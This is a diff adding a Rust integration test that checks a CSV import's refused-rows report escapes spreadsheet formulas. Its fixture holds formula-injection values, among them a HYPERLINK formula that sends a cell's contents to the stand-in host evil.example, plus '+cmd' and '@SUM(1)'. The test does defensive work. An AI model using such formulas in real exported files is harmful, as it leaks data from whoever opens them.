@@ -466,6 +466,37 @@ async fn an_export_imports_as_it_is_and_bad_rows_are_reported_with_their_lines()
 }
 
 #[tokio::test]
+async fn the_refused_rows_file_neutralizes_formulas_in_the_uploaded_header_too() {
+    let org = Org::new().await;
+    let app = &org.app;
+    let project = app.project(&org.slug, "Formulas").await;
+    let csv = "Name,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&B3,\"\"Open\"\")\",@SUM(1)\r\n\
+               ,+cmd,x\r\nGood,y,z\r\n";
+    let import = upload_csv(app, &org.slug, &project, csv).await;
+    let form = org.form(&[("import", &import), ("title", "0")]);
+    app.ok("start_import", &form).await;
+    let ended = import_ended(app, &org, &import).await;
+    assert_eq!(
+        (ended["import"]["rows_imported"].as_i64(), ended["import"]["rows_failed"].as_i64()),
+        (Some(1), Some(1))
+    );
+    let report = app.get(&format!("/o/{}/imports/{import}/errors.csv", org.slug)).await.text().await.unwrap();
+    let records: Vec<Vec<String>> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(report.as_bytes())
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(
+        records[0],
+        ["line", "error", "Name", "'=HYPERLINK(\"http://evil.example/?d=\"&B3,\"Open\")", "'@SUM(1)"],
+        "{report}"
+    );
+    // (Its line number is left to the import's own tests.)
+    assert_eq!(records[1][2..], ["", "'+cmd", "x"]);
+}
+
+#[tokio::test]
 async fn a_cancelled_import_stops_between_batches_with_nothing_half_imported() {
     let org = Org::new().await;
     let app = &org.app;
